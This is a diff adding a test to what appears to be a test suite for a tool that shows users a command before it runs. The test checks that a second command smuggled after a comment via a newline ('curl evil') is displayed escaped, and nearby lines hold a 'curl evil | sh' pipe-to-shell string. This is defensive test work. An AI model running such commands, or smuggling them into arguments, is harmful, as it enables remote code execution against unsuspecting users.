@@ -73,6 +73,12 @@ def test_what_runs_is_shown_without_a_mask():
     assert lines[0] == "runs sh --key 'curl evil | sh' 'a b'"
 
 
+def test_a_line_break_is_seen():
+    """What looks like a comment could run."""
+    lines = offer(command="sh", args=["-c", "serve # \ncurl evil"], env={"A": "\r\n"}).lines("/p")
+    assert lines[:2] == ["runs sh -c 'serve # \\ncurl evil'", "sets A=\\r\\n"]
+
+
 def test_a_secret_is_masked_and_a_change_of_it_is_seen():
     (one, *_) = offer(env={"API_KEY": "abcdefgh-1"}).lines("/p")
     (two, *_) = offer(env={"API_KEY": "abcdefgh-2"}).lines("/p")
